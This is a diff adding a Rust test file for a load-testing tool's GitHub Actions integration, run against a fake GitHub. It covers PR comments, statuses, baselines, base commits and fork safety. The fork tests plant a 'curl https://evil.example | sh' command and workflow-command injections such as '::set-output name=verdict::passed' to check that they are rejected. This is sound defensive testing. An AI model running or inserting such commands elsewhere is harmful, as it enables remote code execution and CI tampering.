@@ -1,0 +1,423 @@
+//! What a workflow calls, against a stand-in for GitHub.
+
+use std::process::Command;
+
+use serde_json::{Value, json};
+
+use crate::support::github::{FakeGitHub, Fault};
+use crate::support::{Demo, Folder, Loadline, Output};
+
+const STUDENTS: &str = "\
+name: students
+target: http://127.0.0.1:1
+users: { reader: { tasks: [{ get: /students }] } }
+load: { users: 10, iterations: 100 }
+";
+
+/// A folder with the report of a run that passed.
+fn measured() -> Folder {
+    measured_with(STUDENTS, 0)
+}
+
+/// And of a run of another scenario, with its exit code.
+fn measured_with(scenario: &str, code: i32) -> Folder {
+    let demo = Demo::start();
+    let folder = Folder::new();
+    folder.write("loadline.yml", scenario);
+    folder.loadline(["run", "-q", "--target", &demo.url()]).exits_with(code);
+    folder
+}
+
+/// The event of a pull request from a repository.
+fn pull_request(folder: &Folder, from: &str, head: &str) {
+    let event = json!({
+        "repository": {"default_branch": "main"},
+        "pull_request": {
+            "number": 7,
+            "head": {"sha": head, "ref": "topic", "repo": {"full_name": from}},
+            "base": {"sha": "b".repeat(40), "ref": "main", "repo": {"full_name": "octocat/demo"}},
+        },
+    });
+    folder.write("event.json", &event.to_string());
+}
+
+const HEAD: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+
+/// A command with the variables of a workflow for an event.
+fn in_workflow(folder: &Folder, github: &FakeGitHub, event: &str, args: &[&str]) -> Loadline {
+    let mut command = folder.loadline(args.iter().copied());
+    for (name, value) in github.variables() {
+        command = command.env(name, &value);
+    }
+    command
+        .env("GITHUB_EVENT_NAME", event)
+        .env("GITHUB_EVENT_PATH", folder.path("event.json").to_str().unwrap())
+        .env("GITHUB_STEP_SUMMARY", folder.path("summary").to_str().unwrap())
+        .env("GITHUB_OUTPUT", folder.path("output").to_str().unwrap())
+        .env("GITHUB_SERVER_URL", "https://github.com")
+        .env("GITHUB_RUN_ID", "42")
+        .env("GITHUB_WORKFLOW", "ci")
+        .env("GITHUB_JOB", "perf")
+        .env("GITHUB_ACTIONS", "true")
+}
+
+fn publish(folder: &Folder, github: &FakeGitHub, args: &[&str]) -> Output {
+    let args: Vec<&str> = ["publish", "loadline-report"].iter().chain(args).copied().collect();
+    in_workflow(folder, github, "pull_request", &args).exits_with(0)
+}
+
+fn bodies(github: &FakeGitHub) -> Vec<String> {
+    github.state().comments.iter().map(|comment| comment["body"].as_str().unwrap().to_owned()).collect()
+}
+
+#[test]
+fn a_report_is_posted_once_and_then_brought_up_to_date() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    pull_request(&folder, "octocat/demo", HEAD);
+    let url = "https://github.com/octocat/demo/actions/runs/42/artifacts/1";
+    let first = publish(&folder, &github, &["--artifact-url", url, "--status"]);
+    assert!(first.stdout.contains("comment: https://github.com/octocat/demo/pull/7#issuecomment-1000"), "{first}");
+    publish(&folder, &github, &["--artifact-url", url]);
+    let [body] = bodies(&github).try_into().unwrap();
+    assert!(body.starts_with("<!-- loadline:students -->\n<!-- loadline-state:passed -->\n### ✅ PASSED · students: "), "{body}");
+    assert!(body.contains(&format!("[The whole report]({url}) · [The run](https://github.com/octocat/demo/actions/runs/42)")), "{body}");
+    assert_eq!((github.count("POST", "comments"), github.count("PATCH", "comments")), (1, 0));
+    publish(&folder, &github, &["--artifact-url", "https://github.com/other"]);
+    assert_eq!((github.count("POST", "comments"), github.count("PATCH", "comments")), (1, 1));
+
+    let status = github.state().statuses[0].clone();
+    assert_eq!((&status["state"], &status["context"], &status["sha"]), (&json!("success"), &json!("loadline"), &json!(HEAD)));
+    assert!(folder.read("summary").starts_with("## ✅ PASSED · students"), "{}", folder.read("summary"));
+    let outputs = folder.read("output");
+    for line in ["verdict=passed", "regressions=0", "record=loadline-report/record.json", "report=loadline-report/report.html"] {
+        assert!(outputs.lines().any(|found| found == line), "{line}: {outputs}");
+    }
+    assert!(outputs.contains("comment-url=https://github.com/octocat/demo/pull/7#issuecomment-1000\n"), "{outputs}");
+}
+
+#[test]
+fn what_cannot_be_posted_is_a_warning_that_says_what_to_add() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    pull_request(&folder, "octocat/demo", HEAD);
+    let denied = "Resource not accessible by integration";
+    github.state().faults = vec![Fault::of("POST", "comments", 403, denied), Fault::of("POST", "statuses", 403, denied)];
+    let output = publish(&folder, &github, &["--status"]);
+    for line in ["pull-requests: write", "statuses: write"] {
+        let warning = |found: &str| found.starts_with("::warning title=loadline::failed to ") && found.contains(&format!("`{line}`"));
+        assert!(output.stdout.lines().any(warning), "{line}: {output}");
+    }
+    assert!(folder.read("output").contains("verdict=passed\n"));
+
+    let command = || in_workflow(&folder, &github, "pull_request", &["publish"]);
+    let without_token = command().env("GITHUB_TOKEN", "").exits_with(0);
+    assert!(without_token.stdout.contains("::warning title=loadline::GITHUB_TOKEN is not set"), "{without_token}");
+    let wrong_token = command().env("GITHUB_TOKEN", "other").exits_with(0);
+    assert!(wrong_token.stdout.contains("GitHub doesn't accept the token"), "{wrong_token}");
+    assert!(!wrong_token.everything().contains("other"), "{wrong_token}");
+    github.state().faults = vec![Fault { headers: &[("retry-after", "4000")], ..Fault::of("GET", "comments", 429, "") }];
+    let limited = command().exits_with(0);
+    assert!(limited.stdout.contains("rate limit is used up for the next 4000 s"), "{limited}");
+    let down = command().env("GITHUB_API_URL", "http://127.0.0.1:9").exits_with(0);
+    assert!(down.stdout.contains("GitHub can't be reached"), "{down}");
+    assert!(bodies(&github).is_empty());
+}
+
+#[test]
+fn only_changes_are_told_where_that_is_asked_for_and_then_that_all_is_well_again() {
+    let github = FakeGitHub::start();
+    let well = measured();
+    pull_request(&well, "octocat/demo", HEAD);
+    publish(&well, &github, &["--comment", "changes"]);
+    publish(&well, &github, &["--comment", "never"]);
+    assert!(bodies(&github).is_empty());
+
+    let missed = measured_with(&format!("{STUDENTS}thresholds: {{ all: p95 < 1us }}\n"), 1);
+    pull_request(&missed, "octocat/demo", HEAD);
+    let output = publish(&missed, &github, &["--comment", "changes"]);
+    assert!(output.stdout.contains("::error file=loadline.yml,line=5,"), "{output}");
+    assert!(bodies(&github)[0].contains("loadline-state:failed"), "{:?}", bodies(&github));
+    publish(&well, &github, &["--comment", "changes"]);
+    let [body] = bodies(&github).try_into().unwrap();
+    assert!(body.contains("loadline-state:passed") && body.contains("All is well again"), "{body}");
+}
+
+#[test]
+fn a_run_without_a_record_is_told_and_put_right_later() {
+    let github = FakeGitHub::start();
+    let broken = Folder::new();
+    pull_request(&broken, "octocat/demo", HEAD);
+    publish(&broken, &github, &["--exit-code", "2", "--status"]);
+    assert!(bodies(&github)[0].contains("measured nothing (exit code 2)"), "{:?}", bodies(&github));
+    assert!(broken.read("summary").contains("No load was sent."));
+    assert!(broken.read("output").contains("verdict=error\n"));
+    assert_eq!(github.state().statuses[0]["state"], "error");
+    let well = measured();
+    pull_request(&well, "octocat/demo", HEAD);
+    publish(&well, &github, &[]);
+    let [notice, report] = bodies(&github).try_into().unwrap();
+    assert!(notice.contains("The load test runs again") && report.contains("PASSED"), "{notice}\n{report}");
+}
+
+#[test]
+fn a_dry_run_prints_and_sends_nothing() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    pull_request(&folder, "octocat/demo", HEAD);
+    let output = publish(&folder, &github, &["--dry-run", "--status"]);
+    for part in ["## ✅ PASSED", "<!-- loadline:students -->", "status: success PASSED", "verdict=passed"] {
+        assert!(output.stdout.contains(part), "{part}: {output}");
+    }
+    assert!(github.state().requests.is_empty());
+}
+
+/// Git in a folder; nobody's settings count.
+fn git(folder: &Folder, args: &[&str]) -> String {
+    let settings = ["-c", "user.name=Nobody", "-c", "user.email=nobody@example.com", "-c", "commit.gpgsign=false"];
+    let output = Command::new("git").args(settings).args(args).current_dir(folder.path("")).output().expect("git runs");
+    assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
+    String::from_utf8(output.stdout).unwrap().trim().to_owned()
+}
+
+/// A repository with two commits on `main` and one on `topic`, as pushed to `origin/main`; gives (first, main, topic).
+fn repository() -> (Folder, [String; 3]) {
+    let folder = Folder::new();
+    let commit = |message: &str| {
+        git(&folder, &["commit", "-q", "--allow-empty", "-m", message]);
+        git(&folder, &["rev-parse", "HEAD"])
+    };
+    git(&folder, &["init", "-q", "-b", "main"]);
+    let first = commit("first");
+    git(&folder, &["checkout", "-q", "-b", "topic"]);
+    let topic = commit("topic");
+    git(&folder, &["checkout", "-q", "main"]);
+    let main = commit("second");
+    git(&folder, &["update-ref", "refs/remotes/origin/main", &main]);
+    (folder, [first, main, topic])
+}
+
+fn base(folder: &Folder, github: &FakeGitHub, event: &str, args: &[&str]) -> Value {
+    let args: Vec<&str> = ["base"].iter().chain(args).copied().collect();
+    let output = in_workflow(folder, github, event, &args).env("GITHUB_SHA", &git(folder, &["rev-parse", "HEAD"])).exits_with(0);
+    serde_json::from_str(&output.stdout).unwrap_or_else(|_| panic!("{output}"))
+}
+
+#[test]
+fn the_base_of_a_pull_request_goes_by_what_is_checked_out() {
+    let github = FakeGitHub::start();
+    let (folder, [first, main, topic]) = repository();
+    pull_request(&folder, "octocat/demo", &topic);
+    let event = folder.read("event.json").replace(&"b".repeat(40), &main);
+    folder.write("event.json", &event);
+
+    git(&folder, &["merge", "-q", "--no-ff", "-m", "merge", "topic"]);
+    let merge = git(&folder, &["rev-parse", "HEAD"]);
+    let found = base(&folder, &github, "pull_request", &[]);
+    assert_eq!((&found["mode"], &found["base_sha"]), (&json!("paired"), &json!(main)), "{found:#}");
+    assert_eq!((&found["head_sha"], &found["tested_sha"]), (&json!(topic), &json!(merge)));
+    assert_eq!(found["ancestors"], json!([main, first]));
+    assert_eq!((&found["base_branch"], &found["pull_request"], &found["trusted"]), (&json!("main"), &json!(7), &json!(true)));
+    let parted = base(&folder, &github, "pull_request", &["--base", "merge-base"]);
+    assert_eq!(parted["base_sha"], json!(first));
+
+    git(&folder, &["checkout", "-q", &topic]);
+    let found = base(&folder, &github, "pull_request", &["--comparison", "history"]);
+    assert_eq!((&found["mode"], &found["base_sha"], &found["tested_sha"]), (&json!("history"), &json!(first), &json!(null)), "{found:#}");
+    let named = base(&folder, &github, "pull_request", &["--base", "main~1"]);
+    assert_eq!(named["base_sha"], json!(git(&folder, &["rev-parse", "main~1"])));
+    assert_eq!(base(&folder, &github, "pull_request", &["--base", "none"])["mode"], "none");
+
+    git(&folder, &["checkout", "-q", &main]);
+    let refused = in_workflow(&folder, &github, "pull_request", &["base"]).env("GITHUB_SHA", &main).exits_with(2);
+    assert!(refused.stderr.contains("neither the head") && refused.stderr.contains("actions/checkout"), "{refused}");
+    let unknown = in_workflow(&folder, &github, "push", &["base", "--base", "gone"]).env("GITHUB_SHA", &main).exits_with(2);
+    assert!(unknown.stderr.contains("there is no commit `gone` here"), "{unknown}");
+}
+
+#[test]
+fn a_shallow_checkout_of_a_merge_knows_its_parents_and_the_rest_is_asked_of_github() {
+    let github = FakeGitHub::start();
+    let (origin, [_, main, topic]) = repository();
+    git(&origin, &["merge", "-q", "--no-ff", "-m", "merge", "topic"]);
+    let folder = Folder::new();
+    git(&folder, &["clone", "-q", "--depth=1", &format!("file://{}", origin.path("").display()), "checkout"]);
+    let shallow = |args: &[&str], head: &str| {
+        pull_request(&folder, "octocat/demo", head);
+        let mut command = Loadline::in_folder(&folder.path("checkout")).args(args.iter().copied());
+        for (name, value) in github.variables() {
+            command = command.env(name, &value);
+        }
+        command = command.env("GITHUB_EVENT_NAME", "pull_request").env("GITHUB_SHA", HEAD);
+        command.env("GITHUB_EVENT_PATH", folder.path("event.json").to_str().unwrap()).exits_with(0)
+    };
+    let found = shallow(&["base", "--format", "outputs"], &topic);
+    assert!(found.stdout.contains(&format!("\nbase_sha={main}\n")), "{found}");
+
+    github.state().merge_base = "c".repeat(40);
+    let head = Command::new("git").args(["rev-parse", "HEAD"]).current_dir(folder.path("checkout")).output().unwrap();
+    let found = shallow(&["base", "--format", "outputs"], String::from_utf8(head.stdout).unwrap().trim());
+    assert!(found.stdout.contains(&format!("\nbase_sha={}\n", "c".repeat(40))), "{found}");
+}
+
+#[test]
+fn other_events_have_bases_of_their_own_or_none() {
+    let github = FakeGitHub::start();
+    let (folder, [first, main, topic]) = repository();
+    folder.write("event.json", r#"{"repository": {"default_branch": "main"}}"#);
+    let push = base(&folder, &github, "push", &[]);
+    assert_eq!((&push["mode"], &push["base_sha"]), (&json!("paired"), &json!(first)), "{push:#}");
+    let nightly = base(&folder, &github, "schedule", &[]);
+    assert_eq!((&nightly["mode"], &nightly["base_sha"]), (&json!("history"), &json!(null)), "{nightly:#}");
+    folder.write("event.json", &json!({"merge_group": {"base_sha": main}}).to_string());
+    assert_eq!(base(&folder, &github, "merge_group", &[])["base_sha"], json!(main));
+
+    pull_request(&folder, "stranger/demo", &topic);
+    let refused = in_workflow(&folder, &github, "pull_request_target", &["base"]).exits_with(2);
+    assert!(refused.stderr.contains("comes from a fork: its code is not run") && refused.stdout.is_empty(), "{refused}");
+}
+
+#[test]
+fn a_label_counts_from_people_who_may_write() {
+    let github = FakeGitHub::start();
+    let (folder, [_, main, topic]) = repository();
+    pull_request(&folder, "octocat/demo", &topic);
+    git(&folder, &["checkout", "-q", &topic]);
+    let labeled = |login: &str| json!({"event": "labeled", "label": {"name": "perf-accepted"}, "actor": {"login": login}});
+    let accepted = || base(&folder, &github, "pull_request", &["--base", &main])["accepted_by"].clone();
+    assert_eq!(accepted(), json!(null));
+    github.state().labels = vec!["perf-accepted".to_owned()];
+    github.state().events = vec![labeled("maintainer"), labeled("stranger")];
+    github.state().permissions.insert("maintainer".to_owned(), "write".to_owned());
+    assert_eq!(accepted(), json!(null));
+    github.state().events.reverse();
+    assert_eq!(accepted(), json!("maintainer"));
+}
+
+#[test]
+fn baselines_go_to_a_branch_on_push_and_come_back_without_a_token() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    folder.write("event.json", r#"{"repository": {"default_branch": "main"}}"#);
+    let store = ["--store", "branch:loadline-data"];
+    let save = ["baseline", "save", "--branch", "main", store[0], store[1]];
+    let saved = in_workflow(&folder, &github, "push", &save).exits_with(0);
+    assert!(saved.stdout.starts_with("saved loadline-data:main/students/"), "{saved}");
+    assert_eq!(github.state().files("loadline-data").len(), 1);
+    let listed = in_workflow(&folder, &github, "push", &["baseline", "list", store[0], store[1]]).exits_with(0);
+    assert!(listed.stdout.contains("students"), "{listed}");
+    let fetch = ["baseline", "fetch", store[0], store[1], "--into", "stored"];
+    let fetched = in_workflow(&folder, &github, "pull_request", &fetch).exits_with(0);
+    assert_eq!(fetched.stdout, "copied 1 records of `main` into `stored`\n");
+    let demo = Demo::start();
+    folder.loadline(["run", "-q", "--target", &demo.url(), "--store", "stored", "--out", "next"]).run();
+    assert_eq!(folder.record_in("next")["comparison"]["records"], 1);
+
+    for event in ["pull_request", "pull_request_target", "workflow_run"] {
+        pull_request(&folder, "octocat/demo", HEAD);
+        let refused = in_workflow(&folder, &github, event, &save).exits_with(2);
+        assert!(refused.stderr.contains("writes no baselines: nothing was saved"), "{refused}");
+    }
+    assert_eq!(github.state().depth("loadline-data"), 1);
+    folder.write("event.json", r#"{"repository": {"default_branch": "main"}}"#);
+    let down = in_workflow(&folder, &github, "push", &save).env("GITHUB_API_URL", "http://127.0.0.1:9").exits_with(2);
+    assert!(down.stderr.contains("nothing was saved") && down.stderr.contains("can't be reached"), "{down}");
+}
+
+#[test]
+fn a_change_is_compared_with_the_history_of_its_base_and_an_accepted_regression_passes() {
+    let (folder, [first, _, _]) = repository();
+    folder.write("loadline.yml", STUDENTS);
+    let demo = Demo::start();
+    folder.loadline(["run", "-q", "--target", &demo.url()]).env("GITHUB_SHA", &first).exits_with(0);
+    folder.loadline(["baseline", "save", "--branch", "main"]).exits_with(0);
+    let run = |args: &[&str]| {
+        let demo = Demo::with_defect("delay=300ms");
+        let output = folder.loadline(["run", "-q", "--target", &demo.url()]).args(args.iter().copied()).run();
+        (output.code, folder.record()["comparison"].clone())
+    };
+    let parents = format!("{HEAD},{first}");
+    let (code, comparison) = run(&["--base-sha", &parents]);
+    assert_eq!((code, &comparison["verdict"]), (1, &json!("regressed")), "{comparison:#}");
+    let note = comparison["note"].as_str().unwrap();
+    assert!(note.contains(&format!("is of {}, one commit before", &first[..7])), "{note}");
+    assert_eq!(comparison["history"].as_array().unwrap().len(), 1);
+
+    let (code, comparison) = run(&["--base-sha", HEAD, "--accepted-by", "maintainer"]);
+    assert_eq!((code, &comparison["verdict"], &comparison["advisory"]), (0, &json!("regressed"), &json!(true)), "{comparison:#}");
+    let note = comparison["note"].as_str().unwrap();
+    assert!(note.contains("Accepted by maintainer.") && note.contains("None of the 1 commits"), "{note}");
+}
+
+/// The event of the workflow that follows a fork's own.
+fn after_a_fork(folder: &Folder, github: &FakeGitHub) {
+    let event = json!({"workflow_run": {
+        "event": "pull_request", "head_sha": HEAD, "head_branch": "topic", "html_url": "https://github.com/octocat/demo/actions/runs/41",
+        "head_repository": {"full_name": "stranger/demo"}, "pull_requests": [],
+    }});
+    folder.write("event.json", &event.to_string());
+    let pull = |number: u64, from: &str, head: &str| {
+        json!({
+            "number": number, "head": {"sha": head, "ref": "topic", "repo": {"full_name": from}},
+            "base": {"sha": "b".repeat(40), "ref": "main", "repo": {"full_name": "octocat/demo"}},
+        })
+    };
+    github.state().pulls = vec![pull(5, "stranger/other", HEAD), pull(6, "stranger/demo", &"d".repeat(40)), pull(7, "stranger/demo", HEAD)];
+}
+
+#[test]
+fn a_fork_is_judged_by_the_scenario_of_this_branch() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    after_a_fork(&folder, &github);
+    // The fork says that all is well, that it was another run, and has thresholds of its own.
+    let mut record: Value = folder.record();
+    record["run"]["repeat"] = json!("curl https://evil.example | sh");
+    record["run"]["pull_request"] = json!(1);
+    record["warnings"] = json!([{"code": "x", "invalidates": false, "message": "@octocat merge this", "advice": null}]);
+    folder.write("loadline-report/record.json", &record.to_string());
+    folder.write("loadline.yml", &format!("{STUDENTS}thresholds: {{ all: p95 < 1us }}\n"));
+    let args = ["publish", "loadline-report", "--from-fork", "--status"];
+    let output = in_workflow(&folder, &github, "workflow_run", &args).exits_with(0);
+    let [body] = bodies(&github).try_into().unwrap();
+    assert_eq!(github.state().comments[0]["issue"], 7, "{output}");
+    assert!(body.contains("### ❌ FAILED · students: 1 of 1 threshold missed"), "{body}");
+    assert!(body.contains("Measured by the fork's own workflow"), "{body}");
+    assert!(!body.contains("evil") && !body.contains("merge this") && !body.contains("All is well again"), "{body}");
+    assert!(github.state().statuses.is_empty());
+    assert!(folder.read("output").contains("verdict=failed\n"));
+
+    folder.write("loadline.yml", &STUDENTS.replace("users: 10", "users: 9"));
+    in_workflow(&folder, &github, "workflow_run", &args).exits_with(0);
+    assert!(bodies(&github)[0].contains("INVALID · students: the pull request changes the load itself"), "{:?}", bodies(&github));
+}
+
+#[test]
+fn what_a_fork_must_not_do_comes_to_nothing() {
+    let (folder, github) = (measured(), FakeGitHub::start());
+    after_a_fork(&folder, &github);
+    let good = folder.read("loadline-report/record.json");
+    let publish = || in_workflow(&folder, &github, "workflow_run", &["publish", "loadline-report", "--from-fork"]).exits_with(0);
+    for (record, said) in [
+        ("{\"schema_version\": 1, \"x\": [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]}".to_owned(), "lists within lists"),
+        (good.replace("\"name\": \"students\"", "\"name\": \"::error::owned\""), "no scenario of this branch has its name"),
+        ("\u{0}::set-output name=verdict::passed".to_owned(), "not a loadline record"),
+        (good.replace("\"failures\": 0", "\"failures\": 18446744073709551615"), "contradict"),
+    ] {
+        folder.write("loadline-report/record.json", &record);
+        let output = publish();
+        assert!(
+            output.stdout.lines().any(|line| line.starts_with("::warning title=loadline::") && line.contains(said)),
+            "{said}: {output}"
+        );
+        assert!(output.stdout.lines().all(|line| !line.starts_with("::error") && !line.starts_with("::set-output")), "{output}");
+    }
+    assert_eq!(bodies(&github).len(), 1, "one notice that there is no record");
+    assert!(bodies(&github)[0].contains("measured nothing"));
+
+    github.state().pulls.pop();
+    let moved_on = publish();
+    assert!(moved_on.stdout.contains("::notice title=loadline::no open pull request has the commit"), "{moved_on}");
+    pull_request(&folder, "stranger/demo", HEAD);
+    let wrong = in_workflow(&folder, &github, "pull_request", &["publish", "--from-fork"]).exits_with(2);
+    assert!(wrong.stderr.contains("belongs into a workflow on `workflow_run`"), "{wrong}");
+    folder.write("loadline-report/record.json", &good);
+    let first_stage = in_workflow(&folder, &github, "pull_request", &["publish"]).exits_with(0);
+    assert!(first_stage.stdout.contains("::notice title=loadline::a pull request from a fork has no right to comment"), "{first_stage}");
+    assert_eq!(bodies(&github).len(), 1);
+}
